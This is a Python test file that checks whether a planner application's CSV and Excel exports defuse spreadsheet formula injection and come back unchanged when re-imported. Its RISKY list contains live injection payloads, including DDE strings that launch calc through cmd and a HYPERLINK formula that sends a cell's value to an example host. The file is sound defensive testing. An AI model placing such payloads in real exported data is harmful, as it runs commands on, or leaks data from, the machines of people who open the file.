"""Nothing that leaves as a table is computed by whoever opens it, and everything comes back as it was."""

import csv
import zipfile
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from xhsplanner.exchange.plan_formulas import guarded, unguarded
from xhsplanner.exchange.plan_read import read_plan
from xhsplanner.ops import catalog, catalog_book, notes, plan, plan_export
from xhsplanner.ops.plan_export import Wanted
from xhsplanner.store.store import Store

RISKY = [
    "=1+1", "=cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "+1+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0",
    '=HYPERLINK("http://example.com?x="&A1,"点我")', "＝1+1", "＋1", "－1", "＠SUM(A1)", "\t=1+1", "\r=1+1",
    " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "'=1+1", "''=1", "|=1", "=\n1", "%0A=1", ";=1+1", ",=1+1",
    '"=1+1"',
    "@某人", "-", "=", "\v=1", "\x1c=1", "−1", "﹢1", "﹦1", "﹣1", "﹫x",
]  # fmt: skip
NAMED = "=+-＝＋－"
"""How the names begin; before a person an @ only says that it is one."""
STARTS = tuple("=+-@＝＋－＠﹢﹦﹣﹫")


def computes(cell: str) -> bool:
    """Whether a spreadsheet might: after whatever it skips, the first sign is one of a formula."""
    bare = "".join(
        char for char in cell if char.isprintable() and not char.isspace() and char not in "\u200b\ufeff"
    )
    return bare.startswith(STARTS)


@pytest.fixture
def risky(store: Store) -> Store:
    """Every name and text of it would be computed."""
    for number, text in enumerate(RISKY):
        name = f"{NAMED[number % len(NAMED)]}{number}"
        catalog.add_account(store, name=name, remark=text, bank=text)
        catalog.add_series(store, name=name, brief=text)
        catalog.add_member(store, name=name, role="editor")
        notes.create(
            store, 2 + number, text, day=date(2026, 12, 9), minute=600, series_id=2 + number, owner_id=2 + number,
            body=text, remark=text, hashtags=f"#{text}",
        )  # fmt: skip
    return store


def cells(path: Path) -> Iterator[str]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        for row in csv.reader(file):
            yield from row


def test_no_cell_of_a_csv_is_computed_and_all_of_it_comes_back(risky: Store, tmp_path: Path) -> None:
    out = tmp_path / "排期.csv"
    plan_export.export_plan(risky, out, Wanted(kind="csv"))
    assert [cell for cell in cells(out) if computes(cell)] == []
    reading = read_plan(out, known=plan.known(risky), today=date(2026, 12, 9))
    change = plan.import_plan(risky, reading)
    assert change is None, "out and in again changes nothing"


@given(st.text(st.sampled_from([*"=+-@＝＠'\t\r\n \"a;,|\u200b\ufeff\u00a0"]), max_size=8))
def test_what_is_guarded_comes_back_as_it_was(text: str) -> None:
    assert unguarded(guarded(text)) == text
    assert not computes(guarded(text))


def test_no_cell_of_a_workbook_is_a_formula_or_a_link(risky: Store, tmp_path: Path) -> None:
    plan_export.export_xlsx(risky, tmp_path / "排期.xlsx")
    catalog_book.export(risky, tmp_path / "目录.xlsx")
    for path in tmp_path.glob("*.xlsx"):
        with zipfile.ZipFile(path) as book:
            names = book.namelist()
            parts = {name: book.read(name).decode() for name in names if name.endswith((".xml", ".rels"))}
        assert [name for name, part in parts.items() if "<f>" in part or "<f " in part] == []
        assert [name for name, part in parts.items() if "hyperlink" in part or "oleObject" in part] == []
        assert [name for name in names if "external" in name.lower() or "vba" in name.lower()] == []
        assert [name for name, part in parts.items() if "TargetMode" in part] == []
    assert not catalog_book.load(risky, tmp_path / "目录.xlsx", check_only=True).problems
